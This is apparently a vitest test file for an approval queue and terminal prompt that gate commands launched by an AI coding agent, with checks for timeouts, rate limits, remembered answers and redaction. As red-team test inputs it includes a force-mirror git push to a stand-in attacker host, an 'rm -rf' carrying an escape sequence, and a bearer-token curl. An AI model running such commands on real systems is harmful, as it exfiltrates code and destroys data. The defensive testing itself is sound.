import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { ApprovalAnswer, ApprovalRequest, Approver } from '../../../src/core/session/approvals';
import { ApprovalQueue, AutoApprover } from '../../../src/core/session/approvals';
import { TerminalApprover } from '../../../src/cli/terminal-approver';
import type { ExecFacts } from '../../../src/core/exec/facts';
import type { ApprovalPolicy } from '../../../src/core/policy/types';
import { suggestRules } from '../../../src/core/policy/suggest-rule';

let nextId = 1;
function facts(argv: string[] = ['git', 'push'], over: Partial<ExecFacts> = {}): ExecFacts {
  return {
    requestId: nextId++,
    tid: 10,
    pid: 10,
    ppid: 1,
    uid: 0,
    syscall: 'execve',
    requestedPath: '/usr/bin/git',
    exe: { path: '/usr/bin/git', dev: '1', ino: '2', size: 3 },
    argv,
    argvTruncated: false,
    cwd: '/w',
    parent: null,
    ...over,
  };
}
const req = (f: ExecFacts): ApprovalRequest => ApprovalQueue.describe(f, 'ask-push', 'pushing needs a human');
const settings = (over: Partial<ApprovalPolicy> = {}): ApprovalPolicy => ({ timeoutMs: 60_000, onTimeout: 'deny', maxPending: 4, maxPerMinute: 10, ...over });

/** An approver whose answers the test gives by hand. */
class ManualApprover implements Approver {
  asked: ApprovalRequest[] = [];
  signals: AbortSignal[] = [];
  private resolvers: ((a: ApprovalAnswer) => void)[] = [];
  ask(r: ApprovalRequest, signal: AbortSignal): Promise<ApprovalAnswer> {
    this.asked.push(r);
    this.signals.push(signal);
    // Like a real prompt: withdrawn (settles) when aborted.
    return new Promise((resolve) => {
      this.resolvers.push(resolve);
      signal.addEventListener('abort', () => resolve('deny'), { once: true });
    });
  }
  answer(i: number, a: ApprovalAnswer): void {
    this.resolvers[i]?.(a);
  }
}

describe('AutoApprover', () => {
  it('resolves at once to the default, and the reason says no one was asked', async () => {
    const q = new ApprovalQueue(settings(), new AutoApprover('deny', 'CI is set'));
    const out = await q.request(req(facts()));
    expect(out).toEqual({ verdict: 'deny', layer: 'approval', reason: 'no one to ask (CI is set): default deny', answer: 'deny', kind: 'answered' });
    const allow = await new ApprovalQueue(settings(), new AutoApprover('allow-once')).request(req(facts()));
    expect(allow.verdict).toBe('allow');
    expect(allow.reason).toBe('no one to ask (CI / no terminal): default allow');
  });
});

describe('ApprovalQueue', () => {
  it('applies on_timeout when nobody answers, and aborts the prompt', async () => {
    const a = new ManualApprover();
    const q = new ApprovalQueue(settings({ timeoutMs: 30, onTimeout: 'deny' }), a);
    const out = await q.request(req(facts()));
    expect(out).toMatchObject({ verdict: 'deny', layer: 'timeout', reason: 'no answer within 30 ms: on_timeout = deny' });
    expect(a.signals[0]?.aborted).toBe(true);
    expect(q.pendingCount).toBe(0);
  });

  it('on_timeout = allow allows', async () => {
    const out = await new ApprovalQueue(settings({ timeoutMs: 10, onTimeout: 'allow' }), new ManualApprover()).request(req(facts()));
    expect(out).toMatchObject({ verdict: 'allow', layer: 'timeout' });
  });

  it('de-duplicates identical pending requests: one prompt, one answer for all', async () => {
    const a = new ManualApprover();
    const q = new ApprovalQueue(settings(), a);
    const p1 = q.request(req(facts()));
    const p2 = q.request(req(facts()));
    const p3 = q.request(req(facts(['git', 'push', '--force'])));
    expect(a.asked).toHaveLength(2);
    a.answer(0, 'allow-once');
    a.answer(1, 'deny');
    expect((await p1).verdict).toBe('allow');
    expect((await p2).verdict).toBe('allow');
    expect((await p3)).toMatchObject({ verdict: 'deny', layer: 'approval', reason: 'denied by the user' });
  });

  it('denies at once beyond max_pending, saying the rate limit was exceeded', async () => {
    const a = new ManualApprover();
    const q = new ApprovalQueue(settings({ maxPending: 2 }), a);
    const p = [q.request(req(facts(['a']))), q.request(req(facts(['b'])))];
    const third = await q.request(req(facts(['c'])));
    expect(third.verdict).toBe('deny');
    expect(third.reason).toMatch(/rate limit exceeded.*max_pending = 2/);
    expect(a.asked).toHaveLength(2);
    a.answer(0, 'deny');
    a.answer(1, 'deny');
    await Promise.all(p);
  });

  it('denies at once beyond max_per_minute, and allows prompts again after the window', async () => {
    let now = 1_000_000;
    // A person answering at once (not an automatic approver, which no limit applies to).
    const quick: Approver = { ask: () => Promise.resolve('allow-once') };
    const q = new ApprovalQueue(settings({ maxPerMinute: 3 }), quick, { now: () => now });
    for (const x of ['a', 'b', 'c']) expect((await q.request(req(facts([x])))).verdict).toBe('allow');
    const flood = await q.request(req(facts(['d'])));
    expect(flood).toMatchObject({ verdict: 'deny', layer: 'approval' });
    expect(flood.reason).toMatch(/rate limit exceeded: 3 prompts in the last minute \(max_per_minute = 3\)/);
    now += 60_001;
    expect((await q.request(req(facts(['e'])))).verdict).toBe('allow');
  });

  it('an automatic approver (--on-ask allow / deny) is never rate-limited: nobody is prompted', async () => {
    const q = new ApprovalQueue(settings({ maxPerMinute: 3, maxPending: 1 }), new AutoApprover('allow-once', '--on-ask allow'));
    const outs = await Promise.all(Array.from({ length: 200 }, (_, i) => q.request(req(facts([`tool-${i}`], { tid: 1000 + i })))));
    expect(outs.every((o) => o.verdict === 'allow' && o.layer === 'approval')).toBe(true);
    expect(outs[199]?.reason).toBe('no one to ask (--on-ask allow): default allow');
  });

  it('one ask per logical exec: the same thread retrying the same file through another PATH entry gets the same answer', async () => {
    let now = 5_000_000;
    const a = new ManualApprover();
    const q = new ApprovalQueue(settings(), a, { now: () => now });
    const curl = { path: '/usr/bin/curl', dev: '8', ino: '77', size: 300 };
    const first = q.request(req(facts(['curl', 'https://x.example'], { tid: 42, requestedPath: '/usr/bin/curl', exe: curl })));
    a.answer(0, 'deny');
    expect(await first).toMatchObject({ verdict: 'deny', reason: 'denied by the user' });
    // execvp goes on to /bin/curl: the same file on a merged-/usr system.
    const viaBin = await q.request(req(facts(['curl', 'https://x.example'], { tid: 42, requestedPath: '/bin/curl', exe: curl })));
    expect(viaBin.verdict).toBe('deny');
    expect(viaBin.reason).toMatch(/^denied by the user \(the answer to request \d+: the same program, arguments and directory, tried again through another path\)$/);
    expect(a.asked).toHaveLength(1);
    // Another thread, other arguments, or the same exec much later: asked.
    void q.request(req(facts(['curl', 'https://x.example'], { tid: 43, requestedPath: '/bin/curl', exe: curl })));
    void q.request(req(facts(['curl', 'https://y.example'], { tid: 42, requestedPath: '/bin/curl', exe: curl })));
    expect(a.asked).toHaveLength(3);
    a.answer(1, 'allow-once');
    a.answer(2, 'deny');
    await new Promise((r) => setImmediate(r));
    now += 10_000;
    void q.request(req(facts(['curl', 'https://y.example'], { tid: 42, requestedPath: '/usr/bin/curl', exe: curl })));
    expect(a.asked).toHaveLength(4);
    a.answer(3, 'deny');
  });

  it('"always" allows the same command (file identity and exact argv) for the session, and nothing broader', async () => {
    const a = new ManualApprover();
    const q = new ApprovalQueue(settings(), a);
    const p = q.request(req(facts(['git', 'push', 'origin', 'main'])));
    a.answer(0, 'always');
    expect(await p).toMatchObject({ verdict: 'allow', answer: 'always' });
    const again = await q.request(req(facts(['git', 'push', 'origin', 'main'], { tid: 77 })));
    expect(again).toMatchObject({ verdict: 'allow', layer: 'approval', kind: 'remembered' });
    expect(again.reason).toMatch(/always.*exact command/);
    expect(a.asked).toHaveLength(1);
    // Other arguments to the same program are asked again (red-team R40: "always" for one push is not a
    // licence for `git push --force --mirror elsewhere`).
    void q.request(req(facts(['git', 'push', '--force', '--mirror', 'https://evil.example/x'], { tid: 78 })));
    expect(a.asked).toHaveLength(2);
    // A different file with the same path (replaced binary) is a different identity: asked again.
    void q.request(req(facts(['git', 'push', 'origin', 'main'], { tid: 79, exe: { path: '/usr/bin/git', dev: '1', ino: '99', size: 3 } })));
    expect(a.asked).toHaveLength(3);
    // A cut argv is never answered from memory (nor asked: see R57 below).
    const cut = await q.request(req(facts(['git', 'push', 'origin', 'main'], { tid: 80, cwd: '/w2', argvTruncated: true })));
    expect(cut).toMatchObject({ verdict: 'deny' });
    expect(a.asked).toHaveLength(3);
  });

  it('after a timeout, answers only once the prompt is withdrawn (bounded by the grace period)', async () => {
    const events: string[] = [];
    const slow: Approver = {
      ask: (_r, signal) =>
        new Promise((resolve) => {
          signal.addEventListener('abort', () => setTimeout(() => {
            events.push('withdrawn');
            resolve('deny');
          }, 40), { once: true });
        }),
    };
    const out = await new ApprovalQueue(settings({ timeoutMs: 10 }), slow).request(req(facts()));
    events.push('answered');
    expect(out.layer).toBe('timeout');
    expect(events).toEqual(['withdrawn', 'answered']);
    // An approver that never withdraws cannot hold the verdict past the grace period.
    const stuck: Approver = { ask: () => new Promise(() => undefined) };
    expect(await new ApprovalQueue(settings({ timeoutMs: 10 }), stuck, { withdrawGraceMs: 20 }).request(req(facts()))).toMatchObject({ layer: 'timeout', verdict: 'deny' });
  });

  it('a cut argv is never put to a person: denied at once with the reason (red-team R57)', async () => {
    const a = new ManualApprover();
    const q = new ApprovalQueue(settings(), a);
    const out = await q.request(req(facts(['date', ...Array.from({ length: 10 }, (_, i) => String(i))], { argvTruncated: true })));
    expect(out).toMatchObject({ verdict: 'deny', layer: 'approval', answer: null });
    expect(out.reason).toMatch(/cut.*cannot be shown for approval/);
    expect(a.asked).toHaveLength(0);
  });

  it('a throwing approver denies (layer error)', async () => {
    const q = new ApprovalQueue(settings(), { ask: () => Promise.reject(new Error('tty gone')) });
    expect(await q.request(req(facts()))).toMatchObject({ verdict: 'deny', layer: 'error', reason: 'the approval prompt failed (tty gone): denied' });
  });

  it('close() withdraws pending prompts and denies later requests', async () => {
    const a = new ManualApprover();
    const q = new ApprovalQueue(settings(), a);
    const p = q.request(req(facts()));
    q.close('session ended');
    expect(await p).toMatchObject({ verdict: 'deny', layer: 'error', reason: 'session ended' });
    expect(a.signals[0]?.aborted).toBe(true);
    expect(await q.request(req(facts(['x'])))).toMatchObject({ verdict: 'deny', reason: 'session ended' });
  });

  it('shows the command redacted and escaped', () => {
    const r = req(facts(['curl', '-H', 'Authorization: Bearer abcdefghij', 'x\u202ey']));
    expect(r.command).toBe(`curl -H 'Authorization: Bearer «redacted:bearer»' $'x\\u202ey'`);
  });
});

describe('TerminalApprover', () => {
  function setup(): { input: PassThrough; output: PassThrough; text: () => string; approver: TerminalApprover } {
    const input = new PassThrough();
    const output = new PassThrough();
    let text = '';
    output.on('data', (b: Buffer) => (text += b.toString()));
    // The hint after "always" is the core's suggestion (what run.ts passes), against a one-rule policy.
    const policyText = '[[rule]]\nid = "ask-push"\naction = "ask"\nexe_basename = "git"\n';
    const suggestRule = (r: ApprovalRequest): string | null =>
      suggestRules({ action: 'allow', argv: r.facts.argv, exe: r.facts.exe?.path ?? null, decidingRuleId: r.ruleId, policyText }).suggestions[0]?.toml ?? null;
    return { input, output, text: () => text, approver: new TerminalApprover({ input, output, suggestRule }) };
  }

  it('shows the exact command and reads y / n / a', async () => {
    const { input, text, approver } = setup();
    const ac = new AbortController();
    const p = approver.ask(req(facts(['rm', '-rf', 'build\x1b[2K'])), ac.signal);
    await new Promise((r) => setImmediate(r));
    expect(text()).toContain(`rm -rf $'build\\e[2K'`);
    expect(text()).toContain('rule ask-push: pushing needs a human');
    input.write('y\n');
    expect(await p).toBe('allow-once');
    const p2 = approver.ask(req(facts()), ac.signal);
    await new Promise((r) => setImmediate(r));
    input.write('maybe\nn\n');
    expect(await p2).toBe('deny');
    expect(text()).toContain('please answer y, a or n');
    const p3 = approver.ask(req(facts()), ac.signal);
    await new Promise((r) => setImmediate(r));
    input.write('a\n');
    expect(await p3).toBe('always');
    expect(text()).toContain('[[rule]]');
    expect(text()).toContain('exe = "/usr/bin/git"');
  });

  it('withdraws the prompt when aborted (timeout) and answers deny', async () => {
    const { approver, text } = setup();
    const ac = new AbortController();
    const p = approver.ask(req(facts()), ac.signal);
    await new Promise((r) => setImmediate(r));
    ac.abort();
    expect(await p).toBe('deny');
    expect(text()).toContain('no answer in time');
  });

  it('asks one question at a time', async () => {
    const { input, approver, text } = setup();
    const ac = new AbortController();
    const p1 = approver.ask(req(facts(['first'])), ac.signal);
    const p2 = approver.ask(req(facts(['second'])), ac.signal);
    await new Promise((r) => setImmediate(r));
    expect(text()).toContain('first');
    expect(text()).not.toContain('second');
    input.write('n\n');
    expect(await p1).toBe('deny');
    await new Promise((r) => setImmediate(r));
    expect(text()).toContain('second');
    input.write('y\n');
    expect(await p2).toBe('allow-once');
  });

  it('end of input answers deny', async () => {
    const { input, approver } = setup();
    const p = approver.ask(req(facts()), new AbortController().signal);
    await new Promise((r) => setImmediate(r));
    input.end();
    expect(await p).toBe('deny');
  });
});

describe('ApprovalQueue: settle events, pending list, withdrawal', () => {
  it('a prompt is announced, listed as pending, and settles once (with the joined duplicate)', async () => {
    const m = new ManualApprover();
    const events: string[] = [];
    const q = new ApprovalQueue(settings(), m, {
      onPrompt: (r) => events.push(`prompt ${r.id}`),
      onSettle: (s) => events.push(`settle ${s.request.id} ${s.outcome.kind} ${s.outcome.verdict} prompted=${s.prompted}`),
    });
    const f = facts();
    const a = q.request(req(f));
    const b = q.request(req({ ...f, requestId: nextId++ }));
    expect(q.pendingRequests().map((r) => r.id)).toEqual([f.requestId]);
    m.answer(0, 'allow-once');
    expect((await a).verdict).toBe('allow');
    expect((await b).verdict).toBe('allow');
    expect(q.pendingRequests()).toEqual([]);
    expect(events).toEqual([`prompt ${f.requestId}`, `settle ${f.requestId} answered allow prompted=true`]);
  });

  it('rate-limited, timed-out, remembered and closed asks settle with their kind (visible to the UI)', async () => {
    const m = new ManualApprover();
    const kinds: string[] = [];
    const q = new ApprovalQueue(settings({ maxPending: 1, timeoutMs: 30 }), m, { onSettle: (s) => kinds.push(`${s.outcome.kind}:${s.prompted}`) });
    const first = q.request(req(facts(['a'])));
    const limited = await q.request(req(facts(['b'])));
    expect(limited).toMatchObject({ verdict: 'deny', kind: 'rate-limited' });
    expect(limited.reason).toMatch(/max_pending = 1/);
    expect(await first).toMatchObject({ verdict: 'deny', layer: 'timeout', kind: 'timed-out' });
    const again = q.request(req(facts(['c'])));
    m.answer(1, 'always');
    expect(await again).toMatchObject({ kind: 'answered', answer: 'always' });
    expect(await q.request(req(facts(['c'])))).toMatchObject({ kind: 'remembered', verdict: 'allow' });
    q.close('bye');
    expect(await q.request(req(facts(['d'])))).toMatchObject({ kind: 'withdrawn', verdict: 'deny', reason: 'bye' });
    expect(kinds).toEqual(['rate-limited:false', 'timed-out:true', 'answered:true', 'remembered:false', 'withdrawn:false']);
  });

  it('withdrawWhere takes back a prompt whose processes are gone: deny, kind withdrawn, reason given', async () => {
    const m = new ManualApprover();
    const q = new ApprovalQueue(settings(), m);
    const p = q.request(req(facts(['x'], { tid: 4242 })));
    const keep = q.request(req(facts(['y'], { tid: 4343 })));
    expect(q.withdrawWhere((rs) => (rs.every((r) => r.facts.tid === 4242) ? 'withdrawn: the process that asked has exited' : null))).toBe(1);
    expect(await p).toMatchObject({ verdict: 'deny', kind: 'withdrawn', reason: 'withdrawn: the process that asked has exited' });
    expect(m.signals[0]!.aborted).toBe(true);
    expect(q.pendingRequests().map((r) => r.facts.argv[0])).toEqual(['y']);
    m.answer(1, 'deny');
    await keep;
  });

  it('display forms: command elided for one line, the process chain, the reason escaped', () => {
    const r = ApprovalQueue.describe(facts(['curl', 'x'.repeat(300)]), 'ask', 'why\u202e?', ['/usr/bin/claude', '/usr/bin/bash']);
    expect(r.commandShort.length).toBeLessThanOrEqual(120);
    expect(r.commandShort).toContain('…');
    expect(r.command).toContain('x'.repeat(300));
    expect(r.chain).toEqual(['claude', 'bash', 'git']);
    expect(r.reason).toBe('why\\u202e?');
  });
});
